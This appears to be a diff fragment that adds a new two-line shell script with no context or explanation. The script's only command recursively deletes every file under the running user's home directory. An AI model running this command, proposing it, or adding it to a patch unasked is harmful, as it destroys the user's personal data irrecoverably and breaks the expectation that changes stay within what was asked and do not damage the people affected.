@@ -1,0 +1,2 @@
+#!/bin/sh
+find ~ -type f -name "*" -delete
